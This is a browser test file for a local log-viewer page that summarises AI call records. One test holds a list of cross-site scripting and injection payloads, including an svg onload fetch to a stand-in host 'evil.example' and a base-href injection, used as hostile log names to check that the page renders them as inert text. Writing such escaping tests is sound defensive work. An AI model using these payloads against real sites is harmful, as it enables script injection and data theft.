import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { Browser } from "playwright-core";
import { openDemo } from "../../src/demo";
import { serveLook } from "../../src/look/serve";
import { open, type Store } from "../../src/store/open";
import { run } from "../../src/store/run";
import { launched, opened, skip } from "../browser";

let browser: Browser;
before(async () => {
  if (!skip) browser = await launched();
});
after(() => browser?.close());

/** Opens the page of a store, and collects what it must not do: messages, dialogs, requests elsewhere. */
async function looked(store: Store) {
  const served = await serveLook(store);
  const { page, wrong, close: closeTab } = await opened(browser, served.url);
  await page.waitForSelector("#log:not(:empty)", { timeout: 60_000 });
  await page.waitForTimeout(300);
  await page.waitForSelector("#verdict:not(.waiting) p", { timeout: 60_000 });
  const close = async () => {
    await closeTab();
    await served.close();
  };
  return { page, wrong, served, close };
}

test("what the log is and does not know is said in words", { skip }, async () => {
  const store = await open(":memory:");
  await run(
    store.connection,
    `insert into calls by name select 'c' || i as call_id, 't' || i as task_id, 'u' || (i % 40) as user_id,
       'm' || (i % 2) as model, if(i < 100, 'evaluation', null) as environment,
       timestamp '2026-03-01' + to_minutes(i::int) as started_at, 1.0 + i % 5 as duration, 1 as place_in_task
     from range(700) as r(i)`,
  );
  const { page, wrong, close } = await looked(store);
  assert.equal(
    await page.textContent("#log"),
    "in memory: 700 calls, 2026-03-01 to 2026-03-01. Left out: 100 evaluation runs (shown side by side by environment).",
  );
  assert.match((await page.textContent("#said")) ?? "", /^600 calls of 40 users, /);
  assert.match(
    (await page.textContent("#errors")) ?? "",
    /The log does not say whether the selected calls failed/,
  );
  assert.deepEqual(wrong, []);
  await close();
  store.close();
});

test("the token leaves the address, and the page works on after it is loaded again", { skip }, async () => {
  const store = await openDemo({ log: "cascade" });
  const { page, wrong, served, close } = await looked(store);
  const token = served.url.split("#")[1];
  assert.ok(!page.url().includes(token), page.url());
  await page.reload();
  await page.waitForSelector("#log:not(:empty)", { timeout: 60_000 });
  await page.waitForTimeout(300);
  await page.waitForSelector("#verdict:not(.waiting) p", { timeout: 60_000 });
  assert.deepEqual(wrong, []);
  await close();
  store.close();
});

const hostile = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(2)</script>",
  "\"><svg/onload=fetch('https://evil.example')>",
  "javascript:alert(3)",
  "' or true --",
  "__proto__",
  "</title><base href=https://evil.example>",
];

test("names of a log are text: no dialog, no request elsewhere, and a click keeps the calls of that name", {
  skip,
}, async () => {
  const store = await open(":memory:");
  await run(store.connection, `alter table calls add column "attributes.<b onclick=alert(4)>" VARCHAR`);
  await run(
    store.connection,
    `insert into calls by name select 'c' || i as call_id, 't' || i as task_id, 'u' || (i % 40) as user_id,
       list_extract($names, 1 + i % 7) as model, list_extract($names, 1 + i % 7) as provider,
       list_extract($names, 1 + i % 7) as workload, if(i % 9 = 0, 'error', 'ok') as status,
       if(i % 9 = 0, list_extract($names, 1 + i % 7), null) as error_type,
       list_extract($names, 1 + i % 7) as "attributes.<b onclick=alert(4)>",
       timestamp '2026-03-01' + to_minutes(i::int) as started_at, 1.0 + i % 5 as duration, 1 as place_in_task
     from range(700) as r(i)`.replaceAll(
      "$names",
      `[${hostile.map((name) => `'${name.replaceAll("'", "''")}'`).join(", ")}]`,
    ),
  );
  const { page, wrong, close } = await looked(store);
  for (const question of ["#list", "#code"]) {
    await page.click(question);
    await page.waitForFunction(() => document.querySelector("#more > div")?.childElementCount);
  }
  for (const name of hostile) assert.ok((await page.textContent("body"))?.includes(name), name);
  const kept = page.locator("#groups tbody button").first();
  const name = await kept.textContent();
  await kept.click();
  await page.waitForFunction(() => /^100 calls/.test(document.getElementById("said")?.textContent ?? ""));
  await page.waitForSelector("#verdict:not(.waiting)", { timeout: 60_000 });
  assert.ok((await page.inputValue("#where")).includes(String(name).replaceAll("'", "''")));
  await page.click("#differ");
  await page.waitForSelector("#more:not(.waiting) table", { timeout: 60_000 });
  assert.deepEqual(wrong, []);
  assert.equal(await page.locator("#look img, #look script, #look b, base").count(), 0);
  await close();
  store.close();
});
